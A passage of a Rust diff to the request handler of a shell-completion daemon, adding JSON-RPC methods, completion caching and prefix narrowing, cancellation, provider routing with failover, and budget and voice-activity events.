+        info!(
+            path = %response.path,
+            providers = ?response.providers,
+            "Config reloaded"
+        );
+        if !response.restart_needed.is_empty() {
+            warn!(settings = ?response.restart_needed, "Some changed settings need a restart");
+        }
+        Ok(response)
+    }
+
+    /// The reported host if it is a different machine than the daemon's.
+    /// Shell integrations only send a host from SSH sessions, but one that
+    /// loops back to this machine is treated as local.
+    fn remote_host<'a>(&self, host: Option<&'a str>) -> Option<&'a str> {
+        host.map(str::trim)
+            .filter(|h| !h.is_empty())
+            .filter(|h| !murmur_context::is_local_host(h, self.local_host.as_deref()))
+    }
+
+    /// Subscribe to daemon events (provider usage, budget, voice activity)
+    /// and notifications (late completions, degradation, history).
+    pub fn subscribe_events(&self) -> broadcast::Receiver<DaemonNotification> {
+        self.events.subscribe()
+    }
+
+    /// The route a request takes and the providers it would be tried on,
+    /// in order. For `murmur repl`.
+    pub(crate) fn route(
+        &self,
+        request: &CompletionRequest,
+        context: &ShellContext,
+    ) -> (RouteDecision, Vec<Arc<dyn Provider>>) {
+        let decision = ProviderRouter::route(request, context);
+        let chain = self.providers().get_chain(&decision);
+        (decision, chain)
+    }
+
+    /// Names of the providers that initialized.
+    pub(crate) fn provider_names(&self) -> Vec<String> {
+        self.providers()
+            .names()
+            .into_iter()
+            .map(String::from)
+            .collect()
+    }
+
+    /// Current state snapshot, sent to new event subscribers.
+    pub async fn state(&self) -> DaemonState {
+        DaemonState {
+            provider: self.last_provider.lock().await.clone(),
+            budget_remaining: self.budget.lock().await.remaining(self.clock.unix_now()),
+            voice_active: !self.voice_sessions.lock().unwrap().is_empty(),
+        }
+    }
+
+    /// Count a request to `provider` against the cloud budget. Free
+    /// providers are always allowed. Returns `false` if the budget is spent.
+    async fn spend_budget(&self, provider: &dyn Provider) -> bool {
+        if provider.capabilities().cost == CostClass::Free {
+            return true;
+        }
+        let now = self.clock.unix_now();
+        let mut budget = self.budget.lock().await;
+        let allowed = budget.try_spend(now);
+        let remaining = budget.remaining(now);
+        drop(budget);
+        if remaining.is_some() {
+            self.events
+                .publish(DaemonEvent::BudgetUpdated { remaining });
+        }
+        allowed
+    }
+
+    /// Record the current degradation state, logging and announcing
+    /// changes.
+    async fn set_degradation(&self, state: Option<Degradation>) {
+        let mut current = self.degradation.lock().await;
+        if *current != state {
+            match state {
+                Some(state) => warn!(?state, "Completions degraded"),
+                None => info!("Cloud providers answering again"),
+            }
+            *current = state;
+            self.events
+                .publish(DaemonNotification::ProviderDegraded(ProviderDegraded {
+                    notice: state.map(DegradationNotice::new),
+                }));
+        }
+    }
+
+    /// Notice for the current degradation state, if any.
+    async fn notice(&self) -> Option<DegradationNotice> {
+        self.degradation.lock().await.map(DegradationNotice::new)
+    }
+
+    /// Read text aloud when spoken feedback is enabled. Failures are only
+    /// logged; speech is a convenience, never a reason to fail a request.
+    fn speak(&self, text: &str) {
+        if let Some(speaker) = self.speaker() {
+            if let Err(e) = speaker.speak(text) {
+                warn!(error = %e, "Text-to-speech failed");
+            }
+        }
+    }
+
+    fn speak_top_suggestion(&self, response: &CompletionResponse) {
+        if self.config().tts.speak_completions {
+            if let Some(top) = response.items.first() {
+                self.speak(&top.text);
+            }
+        }
+    }
+
+    /// Note that a recording from `session` started or finished, and tell
+    /// subscribers.
+    fn set_voice_active(&self, session: Option<&str>, active: bool) {
+        {
+            let mut recording = self.voice_sessions.lock().unwrap();
+            match active {
+                true => recording.push(session.map(String::from)),
+                false => {
+                    if let Some(i) = recording.iter().position(|s| s.as_deref() == session) {
+                        recording.remove(i);
                     }
-                } else {
-                    warn!("Voice restructurer set to 'api' but Anthropic provider not configured");
                 }
             }
-            other => {
-                warn!(
-                    restructurer = other,
-                    "Unknown voice restructurer backend, no restructurer configured"
-                );
-            }
         }
+        self.events.publish(DaemonEvent::VoiceActivity {
+            active,
+            session_id: session.map(String::from),
+        });
+    }
 
-        Self {
-            config,
-            cache,
-            history,
-            providers,
-            voice,
+    /// The directory a request from `session` is about: `cwd` when it's
+    /// given (and noted as where the session is), else where the session
+    /// last reported being.
+    async fn session_cwd(&self, session: Option<&str>, cwd: &str) -> String {
+        let Some(id) = session else {
+            return cwd.to_string();
+        };
+        let now = self.clock.unix_now();
+        let mut sessions = self.sessions.lock().await;
+        let session = sessions.touch(id, now);
+        if cwd.is_empty() {
+            return session.cwd().unwrap_or_default().to_string();
         }
+        if session.cd(cwd) {
+            debug!(session = %id, cwd = %cwd, "Session changed directory");
+        }
+        cwd.to_string()
     }
 
     /// Get the configured socket path (for cleanup on shutdown).
     pub fn socket_path(&self) -> &str {
-        &self.config.daemon.socket_path
+        &self.socket_path
     }
 
     /// Process a JSON-RPC request and return a response.
     pub async fn handle(&self, request: JsonRpcRequest) -> JsonRpcResponse {
         debug!(method = %request.method, "Handling request");
+        let method = request.method.clone();
+        let (timestamp, start) = (self.clock.unix_now(), std::time::Instant::now());
 
-        match request.method.as_str() {
+        let response = match method.as_str() {
             methods::COMPLETE => self.handle_complete(request).await,
+            methods::COMPLETE_CANDIDATES => self.handle_complete_candidates(request).await,
+            methods::COMPLETE_CANCEL => self.handle_complete_cancel(request).await,
+            methods::ABBR_EXPAND => self.handle_abbr_expand(request).await,
+            methods::ABBR_LIST => self.handle_abbr_list(request).await,
             methods::STATUS => self.handle_status(request).await,
+            methods::PING => self.handle_ping(request),
+            methods::HEALTH => self.handle_health(request).await,
             methods::SHUTDOWN => self.handle_shutdown(request).await,
+            methods::CONFIG_RELOAD => self.handle_config_reload(request).await,
             methods::VOICE_START => self.handle_voice_start(request).await,
-            methods::VOICE_PROCESS => self.handle_voice_process(request).await,
+            methods::VOICE_PROCESS => self.handle_voice_process(request, None).await,
             methods::VOICE_STATUS => self.handle_voice_status(request).await,
+            methods::VOICE_CONFIRM => self.handle_voice_confirm(request).await,
+            methods::VOICE_SELFTEST => self.handle_voice_selftest(request).await,
+            methods::VOICE_UPLOAD_BEGIN => self.handle_voice_upload_begin(request).await,
+            methods::VOICE_UPLOAD_CHUNK => self.handle_voice_upload_chunk(request).await,
+            methods::VOICE_UPLOAD_END => self.handle_voice_upload_end(request).await,
             methods::CONTEXT_UPDATE => self.handle_context_update(request).await,
+            methods::SESSION_OPEN => self.handle_session_open(request).await,
             methods::HISTORY_LIST => self.handle_history_list(request).await,
+            methods::HISTORY_IMPORT => self.handle_history_import(request).await,
+            methods::HISTORY_ASK => self.handle_history_ask(request).await,
+            methods::QUERY => self.handle_query(request).await,
+            methods::COMMIT_SUGGEST => self.handle_commit_suggest(request).await,
+            methods::SUMMARIZE_COMMITS => self.handle_summarize_commits(request).await,
+            methods::BRANCH_SUGGEST => self.handle_branch_suggest(request).await,
+            methods::EXPR_SUGGEST => self.handle_expr_suggest(request).await,
+            methods::REGEX_SUGGEST => self.handle_regex_suggest(request).await,
+            methods::CRON_SUGGEST => self.handle_cron_suggest(request).await,
+            methods::DIAGNOSE => self.handle_diagnose(request).await,
+            methods::DEBUG_BUNDLE => return self.handle_debug_bundle(request).await,
             _ => JsonRpcResponse::error(
                 METHOD_NOT_FOUND,
                 format!("Unknown method: {}", request.method),
                 request.id,
             ),
-        }
+        };
+        let latency_ms = start.elapsed().as_millis() as u64;
+        self.traces
+            .lock()
+            .await
+            .record(&method, timestamp, latency_ms, &response);
+        response
+    }
+
+    /// Handle a `voice/process` request whose audio arrived as a binary
+    /// frame rather than base64 in the params.
+    pub async fn handle_voice_frame(
+        &self,
+        request: JsonRpcRequest,
+        audio: Vec<u8>,
+    ) -> JsonRpcResponse {
+        self.handle_voice_process(request, Some(audio)).await
     }
 
     async fn handle_complete(&self, request: JsonRpcRequest) -> JsonRpcResponse {
@@ -238,164 +1154,156 @@ impl RequestHandler {
             None => return JsonRpcResponse::error(INVALID_PARAMS, "Missing params", request.id),
         };
 
-        let start = std::time::Instant::now();
-
-        // Check cache first
-        let cache_key = CompletionCache::cache_key(
-            &params.input,
-            &params.cwd,
-            params.shell.as_deref().unwrap_or("unknown"),
-        );
-
-        {
-            let mut cache = self.cache.lock().await;
-            if let Some(mut cached) = cache.get(cache_key) {
-                cached.cached = true;
-                cached.latency_ms = start.elapsed().as_millis() as u64;
-                info!(input = %params.input, latency_ms = cached.latency_ms, "Cache hit");
-                return JsonRpcResponse::success(
-                    serde_json::to_value(&cached).unwrap(),
-                    request.id,
-                );
-            }
+        let params = match self.hooks() {
+            Some(hooks) => hooks.on_request(params).await,
+            None => params,
+        };
+        if let Err(message) = self.check_provider_hint(&params) {
+            return JsonRpcResponse::error(INVALID_PARAMS, message, request.id);
         }
+        let Some(response) = self.complete_cancellable(&params).await else {
+            return JsonRpcResponse::error(REQUEST_CANCELLED, "Completion cancelled", request.id);
+        };
+        let response = match self.hooks() {
+            Some(hooks) => hooks.on_response(&params, response).await,
+            None => response,
+        };
+        self.speak_top_suggestion(&response);
+        JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+    }
 
-        // Collect context
-        let shell = params.shell.as_deref().unwrap_or("zsh");
-        let context =
-            murmur_context::collect_context(&params.cwd, shell, self.config.context.history_lines)
-                .await;
-
-        // Route to provider chain and try with failover
-        let decision = ProviderRouter::route(&params, &context);
-        let chain = self.providers.get_chain(&decision);
-        debug!(route = ?decision, chain_len = chain.len(), input = %params.input, "Provider routing decision");
+    /// A requested provider must be one of the active ones, and a model
+    /// needs a provider: model names mean nothing to the others.
+    fn check_provider_hint(&self, params: &CompletionRequest) -> Result<(), String> {
+        match (params.provider.as_deref(), params.model.as_deref()) {
+            (Some(name), _) if self.providers().get(name).is_none() => Err(format!(
+                "Provider '{name}' is not active (active: {})",
+                self.providers().names().join(", ")
+            )),
+            (None, Some(model)) => Err(format!("Model '{model}' needs a provider to send it to")),
+            _ => Ok(()),
+        }
+    }
 
-        let (items, provider_name) = if chain.is_empty() {
-            debug!("No providers configured, returning empty completions");
-            (vec![], "none".to_string())
-        } else {
-            let mut result_items = vec![];
-            let mut result_provider = "none".to_string();
-
-            for (i, provider) in chain.iter().enumerate() {
-                let is_fallback = i > 0;
-                if is_fallback {
-                    debug!(provider = provider.name(), "Trying fallback provider");
-                }
-
-                match provider.complete(&params, &context).await {
-                    Ok(items) => {
-                        info!(
-                            provider = provider.name(),
-                            count = items.len(),
-                            latency_ms = start.elapsed().as_millis() as u64,
-                            fallback = is_fallback,
-                            "Completions received"
-                        );
-                        result_items = items;
-                        result_provider = provider.name().to_string();
-                        break;
-                    }
-                    Err(e) => {
-                        warn!(
-                            provider = provider.name(),
-                            error = %e,
-                            remaining = chain.len() - i - 1,
-                            "Provider failed, trying next"
-                        );
-                    }
+    /// Like `complete`, but returns sanitized single-line candidates that
+    /// synchronous shell integrations can feed straight into `COMPREPLY`.
+    async fn handle_complete_candidates(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: CompletionRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid complete/candidates params: {e}"),
+                        request.id,
+                    )
                 }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing complete/candidates params",
+                    request.id,
+                )
             }
-
-            (result_items, result_provider)
         };
 
-        let response = CompletionResponse {
-            items,
-            provider: provider_name,
-            latency_ms: start.elapsed().as_millis() as u64,
-            cached: false,
+        let params = match self.hooks() {
+            Some(hooks) => hooks.on_request(params).await,
+            None => params,
         };
-
-        // Cache the response
-        {
-            let mut cache = self.cache.lock().await;
-            cache.put(cache_key, response.clone());
+        if let Err(message) = self.check_provider_hint(&params) {
+            return JsonRpcResponse::error(INVALID_PARAMS, message, request.id);
         }
-
-        JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
-    }
-
-    async fn handle_status(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        let cache_len = self.cache.lock().await.len();
-        let history_len = self.history.lock().await.len();
-        let voice_status = self.voice.status();
-        let status = serde_json::json!({
-            "status": "running",
-            "cache_entries": cache_len,
-            "history_entries": history_len,
-            "voice_enabled": self.config.voice.enabled,
-            "voice_engines": voice_status.available_engines,
-            "voice_active_engine": voice_status.active_engine,
-            "providers_configured": self.config.providers.keys().collect::<Vec<_>>(),
-            "providers_active": self.providers.names(),
-        });
-        JsonRpcResponse::success(status, request.id)
-    }
-
-    async fn handle_shutdown(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        info!("Shutdown requested");
-        JsonRpcResponse::success(Value::String("shutting down".to_string()), request.id)
+        let Some(response) = self.complete_cancellable(&params).await else {
+            return JsonRpcResponse::error(REQUEST_CANCELLED, "Completion cancelled", request.id);
+        };
+        let response = match self.hooks() {
+            Some(hooks) => hooks.on_response(&params, response).await,
+            None => response,
+        };
+        self.speak_top_suggestion(&response);
+        let candidates = CandidatesResponse {
+            candidates: format_candidates(&response.items),
+            provider: response.provider,
+            cached: response.cached,
+        };
+        JsonRpcResponse::success(serde_json::to_value(&candidates).unwrap(), request.id)
     }
 
-    async fn handle_voice_start(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        let params: VoiceStartRequest = match request.params {
+    /// Abort the completion running under a `cancel_token`.
+    async fn handle_complete_cancel(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: CancelRequest = match request.params {
             Some(params) => match serde_json::from_value(params) {
                 Ok(p) => p,
                 Err(e) => {
                     return JsonRpcResponse::error(
                         INVALID_PARAMS,
-                        format!("Invalid voice params: {e}"),
+                        format!("Invalid complete/cancel params: {e}"),
                         request.id,
                     )
                 }
             },
             None => {
-                return JsonRpcResponse::error(INVALID_PARAMS, "Missing voice params", request.id)
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing complete/cancel params",
+                    request.id,
+                )
             }
         };
+        let cancelled = self.cancellations.cancel(&params.token);
+        debug!(token = %params.token, cancelled, "Completion cancel requested");
+        JsonRpcResponse::success(
+            serde_json::to_value(CancelResponse { cancelled }).unwrap(),
+            request.id,
+        )
+    }
 
-        if !self.config.voice.enabled {
-            return JsonRpcResponse::error(
-                INTERNAL_ERROR,
-                "Voice input is disabled. Set voice.enabled = true in config.",
-                request.id,
-            );
+    /// The abbreviation table. A stale one is relearned from history in
+    /// the background and used as it is until then.
+    async fn abbreviations(&self) -> tokio::sync::MutexGuard<'_, Abbreviations> {
+        let mut abbreviations = self.abbreviations.lock().await;
+        if let Some(learner) = abbreviations.start_learning(self.clock.now()) {
+            let table = self.abbreviations.clone();
+            let history = self.history.clone();
+            let clock = self.clock.clone();
+            tokio::spawn(async move {
+                let entries = history.lock().await.recent(ABBR_LEARNING_ENTRIES);
+                let learned = match entries {
+                    Ok(entries) => tokio::task::spawn_blocking(move || {
+                        learner.learn(&entries, |name| {
+                            verify::program_available(name, "/").unwrap_or(false)
+                        })
+                    })
+                    .await
+                    .map_err(|e| warn!(error = %e, "Learning abbreviations failed"))
+                    .ok(),
+                    Err(e) => {
+                        warn!(error = %e, "Failed to load history for abbreviations");
+                        None
+                    }
+                };
+                table.lock().await.finish_learning(learned, clock.now());
+            });
         }
+        abbreviations
+    }
 
-        info!(mode = ?params.mode, cwd = %params.cwd, "Voice start requested");
-
-        // For now, voice/start requires audio data in the params.
-        // In a full implementation, the daemon would capture audio via cpal.
-        // This endpoint is designed for clients that capture audio themselves
-        // and send WAV data to the daemon for STT + restructuring.
-        JsonRpcResponse::error(
-            INTERNAL_ERROR,
-            "Voice capture requires audio data. Use voice/process with audio_data field, \
-             or use the CLI: murmur voice test",
-            request.id,
-        )
+    /// Replace the defined abbreviations, e.g. after the config file
+    /// changed. Learned ones are relearned on next use.
+    pub async fn set_abbreviations(&self, config: &AbbreviationsConfig) {
+        *self.abbreviations.lock().await = Abbreviations::from_config(config);
     }
 
-    async fn handle_voice_process(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        let params: VoiceProcessRequest = match request.params {
+    async fn handle_abbr_expand(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: AbbrExpandRequest = match request.params {
             Some(params) => match serde_json::from_value(params) {
                 Ok(p) => p,
                 Err(e) => {
                     return JsonRpcResponse::error(
                         INVALID_PARAMS,
-                        format!("Invalid voice/process params: {e}"),
+                        format!("Invalid abbr/expand params: {e}"),
                         request.id,
                     )
                 }
@@ -403,127 +1311,3018 @@ impl RequestHandler {
             None => {
                 return JsonRpcResponse::error(
                     INVALID_PARAMS,
-                    "Missing voice/process params",
+                    "Missing abbr/expand params",
                     request.id,
                 )
             }
         };
+        let response = self
+            .abbreviations()
+            .await
+            .expand(&params.input, params.cursor_pos);
+        if let Some(ref abbreviation) = response.abbreviation {
+            debug!(abbreviation = %abbreviation, "Abbreviation expanded");
+        }
+        JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+    }
 
-        if !self.config.voice.enabled {
-            return JsonRpcResponse::error(
-                INTERNAL_ERROR,
-                "Voice input is disabled. Set voice.enabled = true in config.",
-                request.id,
-            );
+    async fn handle_abbr_list(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let abbreviations = self.abbreviations().await.list();
+        JsonRpcResponse::success(
+            serde_json::to_value(AbbrListResponse { abbreviations }).unwrap(),
+            request.id,
+        )
+    }
+
+    /// `complete`, given up on if the request's `cancel_token` is
+    /// cancelled first. Dropping the completion drops its provider calls,
+    /// and a cancelled answer is never cached.
+    async fn complete_cancellable(&self, params: &CompletionRequest) -> Option<CompletionResponse> {
+        match params.cancel_token.as_deref().filter(|t| !t.is_empty()) {
+            Some(token) => {
+                let response = self.cancellations.run(token, self.complete(params)).await;
+                if response.is_none() {
+                    info!(input = %params.input, "Completion cancelled");
+                }
+                response
+            }
+            None => Some(self.complete(params).await),
         }
+    }
 
-        // Decode base64 audio data
-        use base64::Engine;
-        let audio_data = match base64::engine::general_purpose::STANDARD.decode(&params.audio_data)
-        {
-            Ok(data) => data,
-            Err(e) => {
-                return JsonRpcResponse::error(
-                    INVALID_PARAMS,
-                    format!("Invalid base64 audio_data: {e}"),
-                    request.id,
-                )
+    /// Produce completions for a request: cache lookup, context collection,
+    /// provider routing and per-request limits.
+    pub async fn complete(&self, params: &CompletionRequest) -> CompletionResponse {
+        self.complete_as(params, true).await
+    }
+
+    /// Complete a predicted input to warm the cache. Nobody sees these
+    /// suggestions, so they aren't judged against a shadow provider.
+    pub async fn prefetch(&self, params: &CompletionRequest) -> CompletionResponse {
+        self.complete_as(params, false).await
+    }
+
+    async fn complete_as(&self, params: &CompletionRequest, shown: bool) -> CompletionResponse {
+        let start = std::time::Instant::now();
+        let max_items = params
+            .max_items
+            .unwrap_or(self.config().completion.max_items);
+        let min_score = params
+            .min_score
+            .unwrap_or(self.config().completion.min_score);
+        // A pane that left out its directory gets its session's
+        let in_session;
+        let params = match params.session_id.as_deref() {
+            Some(id) if params.cwd.is_empty() => {
+                in_session = CompletionRequest {
+                    cwd: self.session_cwd(Some(id), "").await,
+                    ..params.clone()
+                };
+                &in_session
             }
+            Some(id) => {
+                self.session_cwd(Some(id), &params.cwd).await;
+                params
+            }
+            None => params,
         };
 
-        info!(
-            mode = ?params.mode,
-            audio_bytes = audio_data.len(),
-            "Processing voice audio"
-        );
+        // Nothing typed yet: suggest what to do next, without a provider
+        if params.input.trim().is_empty() {
+            let mut items = self.proactive_suggestions(params).await;
+            let verify_in = self
+                .remote_host(params.host.as_deref())
+                .is_none()
+                .then_some(params.cwd.as_str());
+            assess(&mut items, verify_in);
+            let items = enforce_policy(items, self.policy().as_deref(), "sequence");
+            let mut items = filter_items(items, &self.config().completion);
+            self.rerank(&mut items, params).await;
+            let mut items = post_process(items, max_items, min_score);
+            self.acceptance.lock().await.shown(&items);
+            let groups = assign_groups(&mut items);
+            return CompletionResponse {
+                items,
+                provider: "sequence".to_string(),
+                latency_ms: start.elapsed().as_millis() as u64,
+                cached: false,
+                notice: self.notice().await,
+                groups,
+                refreshing: false,
+            };
+        }
 
-        match self
-            .voice
-            .process_audio(
-                &audio_data,
-                params.mode,
-                &params.cwd,
-                params.shell.as_deref(),
-            )
-            .await
-        {
-            Ok(result) => {
-                info!(
-                    engine = %result.engine,
-                    latency_ms = result.latency_ms,
-                    confidence = result.confidence,
-                    "Voice processing complete"
-                );
-                JsonRpcResponse::success(serde_json::to_value(&result).unwrap(), request.id)
+        let remote_host = self.remote_host(params.host.as_deref());
+
+        // Check cache first; requests pinned to a provider or model neither
+        // read nor fill it, since the cache doesn't know who answered
+        let slot = self.cache_slot(params, remote_host).await;
+        let cache_key = slot.key;
+        let pinned = params.provider.is_some() || params.model.is_some();
+
+        // An identical request already asking the providers is waited
+        // for, and its answer read from the cache, rather than repeated.
+        // If it wasn't cacheable this request goes ahead itself.
+        let mut _inflight = None;
+        if !pinned {
+            loop {
+                let cached = self.cache.lock().await.get(cache_key);
+                if let Some(cached) = cached {
+                    let cached = self.serve_cached(cached, params, start).await;
+                    info!(input = %params.input, latency_ms = cached.latency_ms, "Cache hit");
+                    return cached;
+                }
+                // While typing on, a shorter input's answer narrowed to the
+                // items still matching beats waiting; the server refreshes
+                // it in the background
+                let at_end = params.cursor_pos >= params.input.chars().count();
+                let narrowed = if shown && at_end {
+                    self.cache
+                        .lock()
+                        .await
+                        .get_prefix(slot.scope, &params.input)
+                } else {
+                    None
+                };
+                if let Some(narrowed) = narrowed {
+                    let mut narrowed = self.serve_cached(narrowed, params, start).await;
+                    narrowed.refreshing = true;
+                    info!(input = %params.input, latency_ms = narrowed.latency_ms, "Prefix cache hit");
+                    return narrowed;
+                }
+                match InFlight::claim(&self.inflight, cache_key) {
+                    Ok(claim) => {
+                        _inflight = Some(claim);
+                        break;
+                    }
+                    Err(mut done) => {
+                        debug!(input = %params.input, "Waiting for identical completion in flight");
+                        // Errs once the other completion is dropped, i.e. done
+                        let _ = done.changed().await;
+                    }
+                }
             }
-            Err(e) => JsonRpcResponse::error(INTERNAL_ERROR, e.to_string(), request.id),
         }
+
+        // Collect context
+        let shell = params.shell.as_deref().unwrap_or("zsh");
+        let mut context = match remote_host {
+            Some(host) => self.remote_context(host, params, shell).await,
+            None => {
+                murmur_context::collect_context(
+                    &params.cwd,
+                    shell,
+                    self.config().context.history_lines,
+                )
+                .await
+            }
+        };
+        // Summaries are built from local sessions only. A session sees its
+        // own; clients without one get the directory's
+        if self.config().context.summaries && remote_host.is_none() {
+            let now = self.clock.unix_now();
+            let window = self.config().context.summary_window_secs;
+            let summaries = self.summaries.lock().await;
+            let summary = match params.session_id.as_deref().filter(|id| !id.is_empty()) {
+                Some(session) => summaries.for_session(session, now, window),
+                None => summaries.for_cwd(&params.cwd, now, window),
+            };
+            context.session_summary = summary.map(String::from);
+        }
+
+        self.answer(params, context, start, shown).await
     }
 
-    async fn handle_voice_status(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        let status = self.voice.status();
-        JsonRpcResponse::success(serde_json::to_value(&status).unwrap(), request.id)
+    /// A cached response prepared like a fresh one: filtered, reranked and
+    /// limited for this request.
+    async fn serve_cached(
+        &self,
+        mut cached: CompletionResponse,
+        params: &CompletionRequest,
+        start: std::time::Instant,
+    ) -> CompletionResponse {
+        let max_items = params
+            .max_items
+            .unwrap_or(self.config().completion.max_items);
+        let min_score = params
+            .min_score
+            .unwrap_or(self.config().completion.min_score);
+        for item in &mut cached.items {
+            item.metadata.origin = Some(CompletionOrigin::Cache);
+        }
+        let mut items = filter_items(cached.items, &self.config().completion);
+        self.rerank(&mut items, params).await;
+        cached.items = post_process(items, max_items, min_score);
+        self.acceptance.lock().await.shown(&cached.items);
+        cached.groups = assign_groups(&mut cached.items);
+        cached.cached = true;
+        cached.latency_ms = start.elapsed().as_millis() as u64;
+        cached.notice = self.notice().await;
+        cached
     }
 
-    async fn handle_context_update(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        let params: ContextUpdateRequest = match request.params {
-            Some(params) => match serde_json::from_value(params) {
-                Ok(p) => p,
-                Err(e) => {
-                    return JsonRpcResponse::error(
-                        INVALID_PARAMS,
-                        format!("Invalid context/update params: {e}"),
-                        request.id,
-                    )
-                }
-            },
+    /// Answer `params` afresh after it was served narrowed from a shorter
+    /// input's cached answer, caching the result and sending it to
+    /// subscribers as `completion/ready`.
+    pub async fn refresh(&self, params: &CompletionRequest) {
+        let response = self.prefetch(params).await;
+        if response.items.is_empty() {
+            return;
+        }
+        debug!(input = %params.input, "Refreshed a narrowed completion");
+        self.events
+            .publish(DaemonNotification::CompletionReady(CompletionReady {
+                input: params.input.clone(),
+                cwd: params.cwd.clone(),
+                host: params.host.clone(),
+                response,
+            }));
+    }
+
+    /// Where `params` is cached. Remote directories can't be fingerprinted
+    /// from here, so their keys leave it out.
+    async fn cache_slot(&self, params: &CompletionRequest, remote_host: Option<&str>) -> CacheSlot {
+        let fingerprint = match remote_host {
+            Some(_) => Default::default(),
             None => {
-                return JsonRpcResponse::error(
-                    INVALID_PARAMS,
-                    "Missing context/update params",
-                    request.id,
-                )
+                if let Some(watcher) = self.dir_watcher.get() {
+                    watcher.watch(&params.cwd);
+                }
+                self.fingerprints.get(&params.cwd).await
             }
         };
+        let shell = params.shell.as_deref().unwrap_or("unknown");
+        CacheSlot {
+            key: CompletionCache::cache_key(
+                &params.input,
+                &params.cwd,
+                shell,
+                remote_host,
+                &fingerprint,
+            ),
+            scope: CompletionCache::scope_key(&params.cwd, shell, remote_host, &fingerprint),
+            input: params.input.clone(),
+        }
+    }
 
-        info!(
-            source = %params.source,
-            command = %params.command,
-            cwd = %params.cwd,
-            exit_code = params.exit_code,
-            "Recording cross-tool command"
-        );
+    /// Complete `params` in a context the caller assembled, without
+    /// reading the cache. Used by `murmur repl`, where the context can be
+    /// edited by hand.
+    pub async fn complete_in(
+        &self,
+        params: &CompletionRequest,
+        context: ShellContext,
+    ) -> CompletionResponse {
+        self.answer(params, context, std::time::Instant::now(), false)
+            .await
+    }
 
-        {
-            let mut history = self.history.lock().await;
-            history.record(params.command, params.cwd, params.source, params.exit_code);
+    /// The rest of a completion once the context is known: routing, the
+    /// provider chain, post-processing and caching. `shown` completions
+    /// start a shadow trial.
+    async fn answer(
+        &self,
+        params: &CompletionRequest,
+        mut context: ShellContext,
+        start: std::time::Instant,
+        shown: bool,
+    ) -> CompletionResponse {
+        let max_items = params
+            .max_items
+            .unwrap_or(self.config().completion.max_items);
+        let min_score = params
+            .min_score
+            .unwrap_or(self.config().completion.min_score);
+        let remote_host = self.remote_host(params.host.as_deref());
+        let shell = params.shell.as_deref().unwrap_or("zsh");
+        let slot = self.cache_slot(params, remote_host).await;
+        let pinned = params.provider.is_some() || params.model.is_some();
+
+        // Past a `&&`, `;` or `|`, only the command under the cursor is
+        // completed; the rest of the line is put back on the suggestions
+        let scoped = scope_to_segment(params);
+        let request = match scoped {
+            Some((ref request, ref prefix)) => {
+                context.line_prefix = Some(prefix.clone());
+                request
+            }
+            None => params,
+        };
+
+        // Route to provider chain and try with failover. A requested
+        // provider bypasses the router and answers alone.
+        let decision = ProviderRouter::route(request, &context);
+        let mut chain = match params.provider.as_deref() {
+            Some(name) => {
+                debug!(provider = name, input = %params.input, "Provider requested by client");
+                self.providers().get(name).into_iter().collect()
+            }
+            None => {
+                let providers = self.providers();
+                let mut chain = providers.get_chain(&decision);
+                if chain.is_empty() {
+                    chain.extend(providers.heuristic.clone());
+                }
+                if self.config().routing.adaptive {
+                    self.latency
+                        .lock()
+                        .await
+                        .prefer_fastest(&mut chain, |p| p.name());
+                }
+                debug!(route = ?decision, chain_len = chain.len(), first = chain.first().map(|p| p.name()), input = %params.input, "Provider routing decision");
+                chain
+            }
+        };
+
+        // Hold cloud requests until typing pauses; one overtaken by a newer
+        // keystroke answers from local providers only
+        let mut tiered = self.tiered_pair().filter(|_| !pinned);
+        let settle_ms = self.config().completion.settle_ms;
+        let mut superseded = false;
+        let first = tiered.as_ref().map(|(fast, _)| fast).or(chain.first());
+        if settle_ms > 0 && first.is_some_and(|p| !p.is_local()) {
+            let key = Settle::key(&params.cwd, shell, remote_host);
+            if !self
+                .settle
+                .wait(key, std::time::Duration::from_millis(settle_ms))
+                .await
+            {
+                debug!(input = %params.input, "Superseded while settling, skipping cloud providers");
+                chain.retain(|p| p.is_local());
+                tiered = None;
+                superseded = true;
+            }
         }
 
-        JsonRpcResponse::success(serde_json::json!({"recorded": true}), request.id)
-    }
+        // With a latency budget, a local provider behind a cloud one is
+        // asked at once, to stand in if the budget runs out
+        let deadline = self.latency_budget(&decision).map(|budget| start + budget);
+        let standby = match (deadline, &tiered) {
+            (Some(_), None) => take_standby(&mut chain),
+            _ => None,
+        };
 
-    async fn handle_history_list(&self, request: JsonRpcRequest) -> JsonRpcResponse {
-        let params: HistoryListRequest = match request.params {
-            Some(params) => match serde_json::from_value(params) {
-                Ok(p) => p,
-                Err(e) => {
-                    return JsonRpcResponse::error(
-                        INVALID_PARAMS,
-                        format!("Invalid history/list params: {e}"),
-                        request.id,
-                    )
+        let mut cloud = CloudOutcome::default();
+        let providers = async {
+            match tiered {
+                Some((fast, strong)) => {
+                    match self
+                        .run_chain(
+                            std::slice::from_ref(&fast),
+                            request,
+                            &context,
+                            start,
+                            &mut cloud,
+                        )
+                        .await
+                    {
+                        Some((items, name)) if !items.is_empty() => {
+                            if self.spend_budget(strong.as_ref()).await {
+                                self.spawn_refinement(
+                                    strong,
+                                    slot.clone(),
+                                    route_name(&decision),
+                                    request,
+                                    &context,
+                                );
+                            }
+                            Some((items, name))
+                        }
+                        // Fast tier failed or had nothing — the rest of the
+                        // regular chain answers
+                        _ => {
+                            let rest: Vec<_> = chain
+                                .iter()
+                                .filter(|p| p.name() != fast.name())
+                                .cloned()
+                                .collect();
+                            self.try_chain(&rest, request, &context, start, &mut cloud)
+                                .await
+                        }
+                    }
                 }
